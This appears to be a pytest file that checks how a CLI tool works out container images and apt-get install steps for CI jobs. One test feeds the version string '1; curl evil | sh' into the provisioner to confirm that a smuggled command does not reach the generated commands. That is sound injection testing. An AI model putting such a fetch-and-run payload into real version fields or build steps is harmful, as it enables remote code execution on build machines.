"""What stands before the work of a job that runs in a container."""

from __future__ import annotations

import pytest

from autodevops_cli.ecosystems._pipeline import NODE as BESIDE
from autodevops_cli.model.evidence import Evidence, Fact, Place
from autodevops_cli.model.plan import (
    Job,
    OfAxis,
    Purpose,
    Run,
    SetupTool,
    Step,
    SystemPackages,
    Tool,
)
from autodevops_cli.providers._containers import PLAIN, Provision, provision

PYTHON = Tool("python", "Python", image="python:{version}", caches=(("PIP_CACHE_DIR", "pip"),))
NODE = Tool("node", "Node", image="node:{version}")
UV = Tool("uv", "uv", image="uv:python{version}", commands="pip install uv=={version}")


def job(*steps: Step) -> Job:
    return Job("test", "Test", Purpose.TEST, (*steps, Run("Test", "make test")))


def spelled(axis: OfAxis) -> str:
    return f"${axis.name.upper()}"


def test_a_job_without_tools_starts_from_a_plain_debian() -> None:
    assert provision(job(), spelled) == Provision(PLAIN)


def test_the_tool_of_the_matrix_is_the_image_and_another_is_installed() -> None:
    steps = (SetupTool(UV, "0.13"), SetupTool(PYTHON, OfAxis("python")))

    found = provision(job(*steps), spelled)

    assert (found.image, found.commands) == ("python:$PYTHON", ("pip install uv==0.13",))


def test_packages_are_installed_without_sudo() -> None:
    found = provision(job(SystemPackages(("zsh", "jq"))), spelled)

    assert found.commands == (
        "apt-get update", "apt-get install --yes --no-install-recommends zsh jq",
    )  # fmt: skip


def test_a_tool_that_nothing_brings_is_told() -> None:
    found = provision(job(SetupTool(PYTHON, "3.13"), SetupTool(NODE, "24")), spelled)

    assert (found.image, found.missing) == ("python:3.13", ("Node",))


def test_a_version_file_is_read_from_its_evidence_and_a_range_gives_the_newest() -> None:
    seen = Evidence("node.version", "v22.1.0", Place(".nvmrc", 1))
    by_file = SetupTool(
        NODE, version_file=".nvmrc", because=(Fact("node.version", "v22.1.0", seen),)
    )

    images = [provision(job(step), spelled).image for step in (by_file, SetupTool(NODE, "20.x"))]

    assert images == ["node:22.1.0", "node:20"]


def test_clients_and_sudo_are_packages_where_commands_call_them() -> None:
    steps = (SystemPackages(("jq",)), Run("Load", "psql -f a.sql && sudo make"))

    found = provision(job(*steps), spelled)

    assert found.commands == (
        "apt-get update",
        "apt-get install --yes --no-install-recommends jq postgresql-client sudo",
    )


@pytest.mark.parametrize("image", ["oven/bun", "denoland/deno", "eclipse-temurin", "maven"])
def test_programs_that_a_slim_image_lacks_are_packages(image: str) -> None:
    slim = Tool("x", "X", image=f"{image}:{{version}}")

    steps = (SetupTool(slim, "1"), Run("Look", "git describe && ./mvnw verify"))

    assert provision(job(*steps), spelled).commands == (
        "apt-get update",
        "apt-get install --yes --no-install-recommends ca-certificates git unzip make",
    )


def test_an_image_on_buildpack_deps_has_git_and_make() -> None:
    assert provision(job(SetupTool(PYTHON, "3.14"), Run("Look", "git log")), spelled) == Provision(
        "python:3.14", caches=(("PIP_CACHE_DIR", "pip"),)
    )


def test_an_image_with_tags_for_releases_only_gets_the_whole_version() -> None:
    deno = Tool("deno", "Deno", image="denoland/deno:{version}")

    images = [provision(job(SetupTool(deno, one)), spelled).image for one in ("v2.x", "2.5.1")]

    assert [one.count(".") for one in images] == [2, 2]
    assert images[0].startswith("denoland/deno:2.")
    assert images[1] == "denoland/deno:2.5.1"


def test_linters_of_rust_are_added_to_its_image() -> None:
    rust = Tool("rust", "Rust", image="rust:{version}")
    lint = Job("lint", "Lint", Purpose.LINT, (SetupTool(rust, "1.98"),))

    assert provision(lint, spelled).commands == ("rustup component add clippy rustfmt",)
    assert provision(job(SetupTool(rust, "1.98")), spelled).commands == ()


def test_a_version_is_no_shell_text() -> None:
    found = provision(job(SetupTool(UV, "1; curl evil | sh"), SetupTool(PYTHON, "3.13")), spelled)

    assert "curl" not in found.image + " ".join(found.commands)


def test_names_of_extensions_are_a_version_too() -> None:
    extensions = Tool("extensions", "Extensions", commands="install {version}")

    assert provision(job(SetupTool(extensions, "intl @composer")), spelled).commands == (
        "install intl @composer",
    )


def test_node_beside_another_language_is_brought_into_its_image() -> None:
    php = Tool("php", "PHP", image="php:{version}-cli")

    found = provision(job(SetupTool(php, "8.4"), SetupTool(BESIDE, "24")), spelled)

    assert found.image == "php:8.4-cli"
    assert "apt-get install --yes --no-install-recommends nodejs npm" in found.commands
    assert not found.missing
